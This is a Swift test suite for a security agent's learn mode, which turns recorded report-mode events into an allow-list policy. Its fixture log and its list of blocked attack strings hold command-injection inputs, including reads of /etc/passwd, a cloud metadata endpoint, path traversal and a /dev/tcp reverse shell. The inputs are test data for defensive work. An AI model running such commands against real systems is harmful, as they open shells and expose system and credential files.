import CPCRE2
import PalisadeJSON
import PalisadeLearn
import Testing

/// Learn mode on the events of a recorded report-mode run: the draft allows what the run did and
/// nothing an injected input adds.
@Suite struct PolicyDraftTests {
    /// A benign run of the `/exec` route (`echo <cmd>` through `sh -c`) plus a converter writing
    /// under /tmp, as the agent records them in report mode, with one attack the agent traced to
    /// its input and the usual log lines around them.
    static let recordedRun = """
    {"palisade":"log","level":"info","message":"registered as extension"}
    START RequestId: 1 Version: $LATEST
    {"palisade":"security-event","time":"2026-11-23T10:00:00.000Z","requestId":"1","function":"orders-api","trigger":"api-gateway-rest","category":"process","rule":"process.observed","location":"behaviour","evidence":"/bin/sh -c echo hello","action":"observed","incident":"i1","command":"/bin/sh -c echo hello","script":"echo hello","pid":41,"source":"python"}
    {"palisade":"security-event","time":"2026-11-23T10:00:00.100Z","requestId":"2","function":"orders-api","trigger":"api-gateway-rest","category":"process","rule":"process.observed","location":"behaviour","evidence":"/bin/sh -c echo world","action":"observed","incident":"i2","command":"/bin/sh -c echo world","script":"echo world","pid":42,"source":"preload"}
    {"palisade":"security-event","time":"2026-11-23T10:00:00.200Z","requestId":"3","function":"orders-api","trigger":"api-gateway-rest","category":"process","rule":"process.observed","location":"behaviour","evidence":"/usr/bin/convert","action":"observed","incident":"i3","command":"/usr/bin/convert /tmp/upload-8812/in.png -resize 200 /tmp/upload-8812/out.png","pid":43,"source":"preload"}
    {"palisade":"security-event","time":"2026-11-23T10:00:00.300Z","requestId":"3","function":"orders-api","trigger":"api-gateway-rest","category":"file","rule":"file.observed","location":"behaviour","evidence":"/tmp/upload-8812/out.png","action":"observed","incident":"i3","path":"/tmp/upload-8812/out.png","access":"write","pid":43,"source":"preload"}
    {"palisade":"security-event","time":"2026-11-23T10:00:00.300Z","requestId":"3","function":"orders-api","trigger":"api-gateway-rest","category":"file","rule":"file.observed","location":"behaviour","evidence":"/var/task/files/readme.txt","action":"observed","incident":"i3","path":"/var/task/files/readme.txt","access":"read","pid":40,"source":"python"}
    {"palisade":"security-event","time":"2026-11-23T10:00:00.400Z","requestId":"4","function":"orders-api","trigger":"api-gateway-rest","category":"network","rule":"network.observed","location":"behaviour","evidence":"api.example.com","action":"observed","incident":"i4","host":"api.example.com","address":"127.0.0.2","port":443,"pid":40,"source":"python"}
    {"palisade":"security-event","time":"2026-11-23T10:00:00.400Z","requestId":"4","function":"orders-api","trigger":"api-gateway-rest","category":"network","rule":"network.observed","location":"behaviour","evidence":"api.example.com","action":"observed","incident":"i4","host":"api.example.com","pid":40,"source":"python"}
    {"palisade":"security-event","time":"2026-11-23T10:00:00.500Z","requestId":"5","function":"orders-api","trigger":"api-gateway-rest","category":"process","rule":"process.input-injection","location":"queryStringParameters.cmd","evidence":"; cat /etc/passwd #","action":"reported","incident":"i5","command":"/bin/sh -c echo ; cat /etc/passwd #","script":"echo ; cat /etc/passwd #","pid":44,"source":"python","input":{"location":"queryStringParameters.cmd","evidence":"; cat /etc/passwd #","why":"shell operator ';' from input"}}
    {"palisade":"security-event","time":"2026-11-23T10:00:00.600Z","requestId":"6","function":"orders-api","trigger":"api-gateway-rest","category":"network","rule":"network.metadata-endpoint","location":"behaviour","evidence":"169.254.169.254","action":"reported","incident":"i6","address":"169.254.169.254","port":80,"pid":40,"source":"preload"}
    {"palisade":"security-event","time":"2026-11-23T10:00:00.700Z","requestId":"7","function":"orders-api","trigger":"api-gateway-rest","category":"cmdi","rule":"cmdi.shell-operator","location":"queryStringParameters.cmd","evidence":"; id","action":"reported","incident":"i7"}
    {"palisade":"security-event","category":"process","rule":"process.observed","action":"observed"
    {"_aws":{"Timestamp":1}}
    END RequestId: 7
    """

    static func draft(_ text: String = recordedRun, function: String? = nil) -> PolicyDraft {
        PolicyDraft(events: Array(text.utf8), function: function)
    }

    /// Whether any of the draft's process rules allows `command` (PCRE2, as the agent matches).
    static func allows(_ draft: PolicyDraft, _ command: String) throws -> Bool {
        try draft.processes.contains { try Regex.matches($0.regex, command) }
    }

    @Test func allowsTheBenignCommandsAndNoInjectedVariant() throws {
        let draft = Self.draft()
        #expect(draft.processes.map(\.regex) == [
            #"^/usr/bin/convert /tmp(?:/[A-Za-z0-9_-][A-Za-z0-9_.-]*)+ -resize [0-9]+ /tmp(?:/[A-Za-z0-9_-][A-Za-z0-9_.-]*)+$"#,
            "^echo (?:hello|world)$",
        ])
        for benign in ["echo hello", "echo world", "/usr/bin/convert /tmp/upload-1/in.png -resize 64 /tmp/upload-1/out.png"] {
            #expect(try Self.allows(draft, benign), "\(benign) should run")
        }
        let attacks = [
            "echo hello; cat /etc/passwd", "echo hello ; cat /etc/passwd #", "echo ; cat /etc/passwd #", "echo $(cat /etc/passwd)",
            "echo `id`", "echo hello | sh", "echo hello && env", "echo hello\ncat /etc/passwd", "echo hello\nid",
            "echo hello > /tmp/x", "env", "/bin/sh -i >& /dev/tcp/127.0.0.1/4444 0>&1",
            "/usr/bin/convert /tmp/../etc/passwd -resize 1 /tmp/x", "/usr/bin/convert /tmp/a;id -resize 1 /tmp/x",
            "/usr/bin/convert /tmp/a -resize 1$(id) /tmp/x", "/usr/bin/convert /tmp/a -resize 1 /tmp/x;id",
            "/usr/bin/convert /tmp/a -resize 1 /tmp/.ssh", "/usr/bin/convert /tmp/a -resize 1 /tmp/x `id`",
        ]
        for attack in attacks {
            #expect(try !Self.allows(draft, attack), "\(attack) must stay blocked")
        }
    }

    @Test func leavesOutWhatAnInputCausedOrADefaultDenialHit() {
        let draft = Self.draft()
        #expect(draft.notAllowed.map(\.operation) == ["process /bin/sh -c echo ; cat /etc/passwd #", "network 169.254.169.254:80"])
        #expect(draft.notAllowed[0].reason == "caused by queryStringParameters.cmd: shell operator ';' from input")
        #expect(draft.summary.contains("not allowed (attack): network 169.254.169.254:80 (network.metadata-endpoint)"))
        #expect(!draft.network.contains { $0.target == .cidr("169.254.169.254/32") })
    }

    @Test func filesAndNetworkBecomeAllowListsWithTmpCollapsed() {
        let draft = Self.draft()
        #expect(draft.files == ["/tmp/*", "/var/task/files/readme.txt"])
        #expect(draft.network == [.init(target: .host("api.example.com"), port: 443)], "the lookup without a port is covered")
        #expect(draft.json.contains(#"{"allow": "/tmp/*"}"#) && draft.json.contains(#"{"deny": "*"}"#))
        #expect(draft.json.contains(#"{"host": "api.example.com", "port": 443}"#))
    }

    @Test func countsSkippedAndMalformedLinesWithoutFailing() {
        let draft = Self.draft()
        #expect(draft.recordCount == 9)
        #expect(draft.skippedLines == 5, "log lines, the cmdi finding and the metric line are not behaviour events")
        #expect(draft.malformedLines.count == 1)
        #expect(draft.malformedLines.first?.line == 13)
        #expect(draft.summary.first == "9 behaviour event(s) used, 5 other line(s) skipped, 1 malformed line(s)")
        let garbage = Self.draft("{\u{0}\n\u{FF}\u{FE}\n{\"palisade\":\"security-event\",\"category\":\"network\",\"rule\":\"network.observed\",\"action\":\"observed\",\"port\":99999,\"address\":\"1.2.3.4\"}\n{}")
        #expect(garbage.malformedLines.count == 2 && garbage.recordCount == 0)
    }

    @Test func withoutObservedOperationsFilesAndNetworkOnlyGainAllows() {
        let reportedOnly = #"{"palisade":"security-event","function":"f","category":"process","rule":"process.not-allowed","action":"reported","command":"/usr/bin/id"}"#
        let draft = Self.draft(reportedOnly)
        #expect(!draft.filesObserved && !draft.networkObserved)
        #expect(draft.json.contains(#""files": {"mode": "mitigate"}"#) && draft.json.contains(#""network": {"mode": "mitigate"}"#),
                "a run whose allowed opens and connections were not recorded must not become a deny-everything-else list: \(draft.json)")
    }

    @Test func draftIsValidJSONAndScopedToOneFunction() throws {
        let other = #"{"palisade":"security-event","function":"billing","category":"process","rule":"process.observed","action":"observed","command":"/usr/bin/id"}"#
        let draft = Self.draft(Self.recordedRun + "\n" + other, function: "billing")
        #expect(draft.processes.map(\.regex) == [#"^/usr/bin/id$"#])
        #expect(draft.notAllowed.isEmpty)
        #expect(draft.json.contains(#""name": "billing""#))
        for text in [draft.json, Self.draft().json] {
            #expect(throws: Never.self) { try JSONDocument(text) }
        }
    }

    @Test func escapesEveryRegexMetacharacterAndControlByte() throws {
        let command = #"/opt/tool --expr a.b*c+d?(e)[f]{g}^h$i|j\k"# + "\tl"
        let pattern = CommandPattern(command: command)
        #expect(try Regex.matches(pattern.regex, command))
        #expect(try !Regex.matches(pattern.regex, #"/opt/tool --expr axb*c+d?(e)[f]{g}^h$i|j\k"# + "\tl"))
        #expect(pattern.regex.contains(#"\x{9}"#))
    }
}

/// PCRE2 as the agent uses it: a rule allows a command line when it matches anywhere (the rules are anchored).
enum Regex {
    struct CompileError: Error { let code: Int32 }

    static func matches(_ pattern: String, _ subject: String) throws -> Bool {
        var errorCode: Int32 = 0
        var errorOffset = 0
        let code = pattern.utf8CString.withUnsafeBufferPointer { buffer in
            buffer.withMemoryRebound(to: UInt8.self) {
                pcre2_compile_8($0.baseAddress, $0.count - 1, UInt32(PCRE2_UTF), &errorCode, &errorOffset, nil)
            }
        }
        guard let code else { throw CompileError(code: errorCode) }
        defer { pcre2_code_free_8(code) }
        let data = pcre2_match_data_create_from_pattern_8(code, nil)
        defer { pcre2_match_data_free_8(data) }
        let bytes = Array(subject.utf8)
        let result = bytes.withUnsafeBufferPointer { pcre2_match_8(code, $0.baseAddress ?? UnsafePointer(bitPattern: 1), $0.count, 0, 0, data, nil) }
        return result >= 0
    }
}
